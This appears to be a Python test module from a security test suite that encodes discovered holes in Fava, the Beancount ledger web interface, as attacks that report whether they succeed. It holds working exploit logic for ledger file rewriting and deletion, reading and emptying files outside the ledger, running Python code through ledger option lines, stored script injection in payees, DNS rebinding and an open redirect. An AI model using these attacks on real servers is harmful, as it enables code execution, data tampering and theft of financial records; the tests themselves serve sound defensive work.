"""The holes of Fava that were found open, each as an attack that tells whether it won."""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from typing import TYPE_CHECKING
from urllib.parse import quote

from tests.web.small_site import SCRIPT

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.web.small_site import Site

OUTSIDE = "ini di luar buku"  # stands in luar.txt, beside the cooperative's folder
CONFIG = """
from pathlib import Path
Path(__file__).with_name("dijalankan.txt").write_text("ya")
CONFIG = []
"""


@dataclass(frozen=True)
class Medan:
    """Where an attack happens: the server, the ledger's name in its addresses, its main file."""

    site: Site
    book: str
    main: Path

    def take(self, path: str) -> str:
        """The body of `/<buku>/...`."""
        return self.site.ask(f"/{self.book}/{path}").content


def write_source(medan: Medan) -> bool:
    """PUT api/source rewrites a ledger file."""
    text = medan.main.read_text(encoding="utf-8")
    body = {
        "file_path": str(medan.main),
        "source": text + "\n; ditulis orang\n",
        "sha256sum": hashlib.sha256(text.encode()).hexdigest(),
    }
    medan.site.ask(
        f"/{medan.book}/api/source",
        "PUT",
        json.dumps(body).encode(),
        **{"Content-Type": "application/json"},
    )
    return "ditulis orang" in medan.main.read_text(encoding="utf-8")


def add_entry(medan: Medan) -> bool:
    """PUT api/add_entries books something."""
    entry = {
        "t": "Note",
        "date": "2026-01-31",
        "account": "Aset:Kas:Toko",
        "comment": "entri orang",
        "meta": {},
    }
    body = json.dumps({"entries": [entry]}).encode()
    medan.site.ask(
        f"/{medan.book}/api/add_entries", "PUT", body, **{"Content-Type": "application/json"}
    )
    return any("entri orang" in p.read_text() for p in medan.main.parent.rglob("*.beancount"))


def drop_discount(medan: Medan) -> bool:
    """DELETE api/source_slice takes an entry out of its file."""
    kas = medan.main.parent / "2026/01-kas.beancount"
    before = kas.read_text(encoding="utf-8")
    journal = json.loads(medan.take("api/journal_page?page=1&order=desc"))["data"]["journal"]
    for piece in journal.split("#context-")[1:]:
        entry = piece[:32]
        cut = json.loads(medan.take(f"api/source_slice?entry_hash={entry}"))
        sha = cut.get("data", {}).get("sha256sum", "0" * 64)
        medan.site.ask(
            f"/{medan.book}/api/source_slice?entry_hash={entry}&sha256sum={sha}", "DELETE"
        )
    return kas.read_text(encoding="utf-8") != before


def read_source(medan: Medan) -> bool:
    """GET api/source shows a ledger file."""
    return 'option \\"title\\"' in medan.take(f"api/source?filename={quote(str(medan.main))}")


def read_insertion(medan: Medan) -> bool:
    """GET api/source shows any file that an `include` line names."""
    with medan.main.open("a", encoding="utf-8") as file:
        file.write('include "../luar.txt"\n')
    medan.take("balance_sheet/")  # notices the change and reads again
    outside = medan.main.parent.parent / "luar.txt"
    return any(
        OUTSIDE in medan.take(f"api/source?filename={quote(name)}")
        for name in (str(outside), f"<{outside}>", "<luar.txt>")
    )


def read_discount(medan: Medan) -> bool:
    """GET api/source_slice shows an entry's source text."""
    journal = json.loads(medan.take("api/journal_page?page=1&order=desc"))["data"]["journal"]
    hashes = {piece[:32] for piece in journal.split("#context-")[1:]}
    return any("balance Aset" in medan.take(f"api/source_slice?entry_hash={h}") for h in hashes)


def query_writing(medan: Medan) -> bool:
    """A query `.output FILE` empties a file, in read-only mode too."""
    outside = medan.main.parent.parent / "luar.txt"
    medan.take(f"api/query?query_string={quote(f'.output {outside}')}")
    return outside.read_text(encoding="utf-8") == ""


def download_writing_query(medan: Medan) -> bool:
    """The same through the download of a query's result."""
    outside = medan.main.parent.parent / "luar.txt"
    medan.take(f"download-query/query_result.csv?query_string={quote(f'.output {outside}')}")
    return outside.read_text(encoding="utf-8") == ""


def download_query(medan: Medan) -> bool:
    """GET download-query sends a result as a file."""
    return "Aset:Kas:Toko" in medan.take(
        f"download-query/query_result.csv?query_string={quote('SELECT account')}"
    )


def download_journal(medan: Medan) -> bool:
    """GET download-journal sends the source of all entries, one file read per entry."""
    return "Ekuitas:Hibah" in medan.take("download-journal/")


def query_opening(medan: Medan) -> bool:
    """A query CREATE TABLE opens a file of the machine; then it is not refused as a statement."""
    csv = medan.main.parent.parent / "luar.csv"
    csv.write_text("a\n1\n", encoding="utf-8")
    text = f"CREATE TABLE curi (a int) USING 'csv:{csv}'"
    answer = medan.site.ask(f"/{medan.book}/api/query?query_string={quote(text)}")
    return answer.status == 200


def take_through_importer(medan: Medan) -> bool:
    """GET api/extract runs an importer over any path; a 403 means that none was asked."""
    outside = medan.main.parent.parent / "luar.txt"
    answer = medan.site.ask(
        f"/{medan.book}/api/extract?filename={quote(str(outside))}&importer=apa.saja"
    )
    return answer.status != 403


def run_python(medan: Medan) -> bool:
    """A ledger line makes Fava run a Python file."""
    (medan.main.parent / "jahat.py").write_text(CONFIG, encoding="utf-8")
    with medan.main.open("a", encoding="utf-8") as file:
        file.write('2026-01-01 custom "fava-option" "import-config" "jahat.py"\n')
    medan.take("balance_sheet/")
    return (medan.main.parent / "dijalankan.txt").exists()


def load_extension(medan: Medan) -> bool:
    """A ledger line makes Fava import a Python module beside the ledger."""
    (medan.main.parent / "ekstensi_jahat.py").write_text(CONFIG, encoding="utf-8")
    with medan.main.open("a", encoding="utf-8") as file:
        file.write('2026-01-01 custom "fava-extension" "ekstensi_jahat"\n')
    medan.take("balance_sheet/")
    return (medan.main.parent / "dijalankan.txt").exists()


def paths_in_settings(medan: Medan) -> bool:
    """GET api/options names folders of the machine."""
    return str(medan.main.parent) in medan.take("api/options")


def paths_in_page(medan: Medan) -> bool:
    """Every page carries the ledger's absolute paths."""
    return str(medan.main.parent) in medan.take("balance_sheet/")


def paths_in_query(medan: Medan) -> bool:
    """A SELECT names the files of entries."""
    return str(medan.main.parent) in medan.take(
        f"api/query?query_string={quote('SELECT filename, location')}"
    )


def paths_in_problem(medan: Medan) -> bool:
    """The list of errors names files of the machine."""
    with medan.main.open("a", encoding="utf-8") as file:
        file.write('include "tidak-ada.beancount"\n2026-02-01 balance Aset:Kas:Toko 1 IDR\n')
    medan.take("balance_sheet/")
    return str(medan.main.parent) in medan.take("api/errors")


def paths_in_detail(medan: Medan) -> bool:
    """The context of an entry names its file."""
    journal = json.loads(medan.take("api/journal_page?page=1&order=desc"))["data"]["journal"]
    hashes = {piece[:32] for piece in journal.split("#context-")[1:]}
    assert hashes
    return any(str(medan.main.parent) in medan.take(f"api/context?entry_hash={h}") for h in hashes)


def script_in_journal(medan: Medan) -> bool:
    """A payee reaches the journal as HTML."""
    journal = json.loads(medan.take("api/journal_page?page=1&order=desc"))["data"]["journal"]
    assert "TEMBUS" in journal
    return SCRIPT in journal


def script_in_account(medan: Medan) -> bool:
    """A payee reaches an account's page as HTML."""
    report = json.loads(medan.take("api/account_report?a=Aset:Kas:Toko"))["data"]["journal"]
    assert "TEMBUS" in report
    return SCRIPT in report


def without_csp(medan: Medan) -> bool:
    """A page may run a script that stands in it, or stand in another's frame."""
    answer = medan.site.ask(f"/{medan.book}/balance_sheet/")
    policy = answer.header.get("Content-Security-Policy", "").split("; ")
    closed = {"default-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "base-uri 'none'"}
    return not {*closed, "object-src 'none'", "frame-ancestors 'none'"} <= set(policy)


def other_name(medan: Medan) -> bool:
    """A page elsewhere makes its own name lead here (DNS rebinding) and reads the books."""
    answer = medan.site.ask(f"/{medan.book}/api/balance_sheet", Host="jahat.example:5000")
    return "Ekuitas" in answer.content


def jump(medan: Medan) -> bool:
    """GET /jump goes wherever the Referer says."""
    answer = medan.site.ask("/jump?time=2026", Referer="https://jahat.example/")
    return "jahat.example" in answer.header.get("Location", "")


def other_book(medan: Medan) -> bool:
    """A page of one ledger leads to another ledger of the same server."""
    return "Buku Rahasia" in medan.take("balance_sheet/")


# Of a Fava that may write; every other attack wins against a read-only one, too.
WRITING: tuple[Callable[[Medan], bool], ...] = (write_source, add_entry, drop_discount)
LOOKS: tuple[Callable[[Medan], bool], ...] = (
    read_source,
    read_insertion,
    read_discount,
    query_writing,
    download_writing_query,
    download_query,
    download_journal,
    query_opening,
    take_through_importer,
    run_python,
    load_extension,
    paths_in_settings,
    paths_in_page,
    paths_in_query,
    paths_in_problem,
    paths_in_detail,
    script_in_journal,
    script_in_account,
    without_csp,
    other_name,
    jump,
    other_book,
)
